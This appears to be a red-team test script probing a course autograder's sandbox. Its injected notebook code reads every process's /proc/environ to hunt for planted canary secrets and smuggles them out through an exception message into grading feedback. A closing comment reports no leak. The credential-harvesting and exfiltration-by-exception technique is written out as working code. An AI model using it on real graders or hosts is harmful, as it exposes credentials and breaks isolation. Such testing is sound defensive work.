"""a02: the grader's environment through /proc/1/environ of the sandbox.

In the recon (a01) the kernel could read /proc/1/environ: PID 1 of the kernel's PID namespace is
bwrap itself, and it runs as the same host uid (65534) as the kernel, so its environ is readable.
This attack sets secrets in the grader's environment (DATABASE_URL, AWS_SECRET_ACCESS_KEY,
DISTCOURSE_DB_URL) and has the kernel print /proc/*/environ, and the observer's child raise it
back (the probe writes the message into the test cell). Run as root.
"""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.dirname(__import__("os").path.abspath(__file__))))
from attack_course import *

SECRETS = {"DATABASE_URL": "postgresql://ta:CANARY-DBPASS-a02@db.example/course",
           "AWS_SECRET_ACCESS_KEY": "CANARY-AWS-a02", "DISTCOURSE_DB_URL": "sqlite:///CANARY-DISTDB-a02"}

DUMP = r'''
import os, glob
def _environs():
    out = []
    for p in sorted(glob.glob("/proc/[0-9]*"), key=lambda s: int(s.split("/")[-1])):
        try:
            env = open(p + "/environ", "rb").read().decode(errors="replace").split("\0")
        except Exception as e:
            env = [f"<{type(e).__name__}>"]
        hits = [e for e in env if "CANARY" in e or e.startswith(("HOME=", "USER=", "SUDO", "DATABASE"))]
        out.append(f"{p}: {len(env)} vars; {hits}")
    return "\n".join(out)
print(_environs())
'''

nb = notebook(overrides={
    "training_memory": DUMP,
    "per_device_memory": DUMP + "\ndef per_device_memory(num_params, num_devices, strategy, weight_bytes=2, grad_bytes=2, state_bytes=12):\n    raise RuntimeError('OBSERVER-CHILD ' + _environs()[:1900])\n",
})

if __name__ == "__main__":
    dest = make_course("02", {"environ": nb})
    os.environ.update(SECRETS)
    grade(dest)
    show(dest)
    outputs(dest, "environ")
    os.system(f"grep -rl CANARY- {dest}/autograded {dest}/feedback {dest}/grades.csv {dest}/grading_report.json; echo grep-rc=$?")

# RESULT (root, 02:40 UTC): /proc/1/environ (bwrap) holds 3 variables (PATH and two others), none of
# the secrets; /proc/2 and /proc/3 hold the kernel's allow-listed environment. No CANARY in any
# environ, autograded notebook, feedback, grades.csv or grading_report.json (grep rc=1). Promise held.
# (Only the grader's PATH leaks: harmless.)
